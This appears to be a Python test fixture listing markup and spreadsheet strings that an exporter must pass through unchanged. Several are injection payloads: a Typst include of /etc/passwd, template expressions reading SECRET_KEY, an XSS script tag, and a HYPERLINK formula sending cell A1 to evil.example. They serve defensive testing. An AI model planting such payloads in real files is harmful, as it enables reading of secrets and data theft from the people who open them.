"""Texts that are something else to a careless program."""

# What must come out as it went in, in every format.
MARKUP = [
    '#set text(size: 90pt) #include "/etc/passwd" $x^2$ @ref <label> // нет /* нет */',
    "*жирный* _курсив_ `код` [ссылка](https://evil.example/) ![](x.png) \\textbf{нет} ~тильда~",
    "{{ settings.SECRET_KEY }} {% include 'x' %} ${7*7} <%= 1 %> %s %(x)s {0}",
    "<script>alert(1)</script> <w:p/> <text:p/> ]]> &amp; &#65; <!-- нет --> </office:text>",
    "= Заголовок, а не формула",
    "- не список — и не минус",
    "1. не номер",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1;"нажми")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "  =1+1",
    "\u200e=1+1",
    "#N/A",
]
